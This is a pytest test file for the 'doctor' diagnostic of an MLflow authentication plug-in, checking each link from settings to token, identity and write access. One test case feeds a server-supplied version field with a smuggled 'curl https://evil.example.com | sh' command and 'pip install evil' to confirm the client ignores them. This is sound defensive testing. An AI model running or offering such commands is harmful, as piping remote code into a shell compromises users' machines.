"""``mlflow-gatehouse doctor``: the whole way, or the first link that is broken, with its exit code."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from local.proxy_binary import ROOT
from mlflow_gatehouse import __version__
from mlflow_gatehouse.doctor import _other_version
from mlflow_gatehouse.server import Server
from tests.client.conftest import Machine
from tests.client.googleapis import ACCOUNT, Google
from tests.client.impostor import Impostor, standing_in
from tests.client.openid import OpenIdProvider
from tests.support import Gate


def links(said: str) -> list[str]:
    """The links that were found in order."""
    return [line.split()[1] for line in said.splitlines() if line.startswith("ok ")]


def test_the_whole_way_to_a_run_written_and_deleted(machine: Machine, google: Google) -> None:
    done = machine.gatehouse("doctor", NO_GCE_CHECK="", env=google.as_metadata)
    assert links(done.stdout) == [
        "settings", "plug-in", "server", "clock", "token", "identity", "run", "metric", "artifact", "deleted",
    ]  # fmt: skip
    assert f"{ACCOUNT}, from metadata" in done.stdout
    assert "17 bytes written and read; they stay, for deleting them is an administrator's" in done.stdout


def test_the_run_is_gone_afterwards(machine: Machine, openid: OpenIdProvider) -> None:
    environment = {"MLFLOW_TRACKING_TOKEN": openid.token()}
    machine.gatehouse("doctor", env=environment)
    text = """
import mlflow
print(len(mlflow.MlflowClient().search_runs(["0"], "tags.`gatehouse.doctor` = 'true'")))
"""
    assert machine.script(text, env=environment).stdout.split() == ["0"]


@pytest.mark.parametrize(
    ("environment", "code", "broken", "said"),
    [
        ({"MLFLOW_TRACKING_URI": ""}, 78, "settings", "no tracking server was named"),
        ({"MLFLOW_TRACKING_INSECURE_TLS": "true"}, 78, "settings", "MLFLOW_TRACKING_INSECURE_TLS is set"),
        ({"MLFLOW_TRACKING_AUTH": ""}, 78, "plug-in", "export MLFLOW_TRACKING_AUTH=gatehouse"),
        ({"MLFLOW_TRACKING_URI": "http://127.0.0.1:9"}, 69, "server", "no answer from http://127.0.0.1:9"),
        ({"MLFLOW_TRACKING_URI": "http://mlflow.example.com"}, 78, "server", "isn't https"),
        ({}, 67, "token", "mlflow-gatehouse login"),
    ],
)
def test_the_first_broken_link_is_named_with_its_fix(
    machine: Machine, environment: dict[str, str], code: int, broken: str, said: str
) -> None:
    done = machine.gatehouse("doctor", expect=code, env=environment)
    assert f"FAIL  {broken}" in done.stdout
    assert said in done.stderr
    assert "Fix: " in done.stderr


def test_an_identity_that_is_not_let_in(machine: Machine, openid: OpenIdProvider) -> None:
    environment = {"MLFLOW_TRACKING_TOKEN": openid.token("mallory@evil.example")}
    done = machine.gatehouse("doctor", expect=77, env=environment)
    assert "FAIL  identity" in done.stdout
    assert "doesn't let this identity in" in done.stderr


def test_a_wrong_clock(machine: Machine, openid: OpenIdProvider) -> None:
    server = Impostor(200, "{}", Content_Type="application/json")
    server.clock_ahead = -7200
    with standing_in(server):
        environment = {"MLFLOW_TRACKING_URI": server.url, "MLFLOW_TRACKING_TOKEN": openid.token()}
        done = machine.gatehouse("doctor", expect=76, env=environment)
    assert "FAIL  clock" in done.stdout
    assert "ahead of the server's" in done.stderr


def test_a_viewer_is_told_that_writing_is_what_is_missing(machine: Machine, make_gate: Callable[..., Gate]) -> None:
    gate = make_gate(ACCESS_POLICY=str(ROOT / "local" / "access.yaml")).start().wait_ready()
    environment = {"MLFLOW_TRACKING_URI": gate.url, "MLFLOW_TRACKING_TOKEN": gate.provider.token("carol")}
    done = machine.gatehouse("doctor", expect=77, env=environment)
    assert "you may read, and not write this: carol@example.com is a viewer here" in done.stderr
    assert "ask for the editor's role" in done.stderr
    environment["MLFLOW_TRACKING_TOKEN"] = gate.provider.token("alice")
    done = machine.gatehouse("doctor", env=environment)
    assert "17 bytes written, read and deleted" in done.stdout


@pytest.mark.parametrize(
    ("client", "said"),
    [
        ({"version": __version__}, ""),
        (
            {"version": "9.9.9"},
            "; it hands out the client 9.9.9, this is {ours}: pip install -r "
            "{origin}/.well-known/gatehouse/requirements.txt",
        ),
        ({"version": "9; curl https://evil.example.com | sh", "install": "pip install evil"}, ""),
        ({"version": 9}, ""),
        ("9.9.9", ""),
    ],
)
def test_another_version_at_the_server_is_told_with_our_own_command(client: object, said: str) -> None:
    origin = "https://mlflow.example.com"
    assert _other_version(Server(origin, {"client": client})) == said.format(ours=__version__, origin=origin)
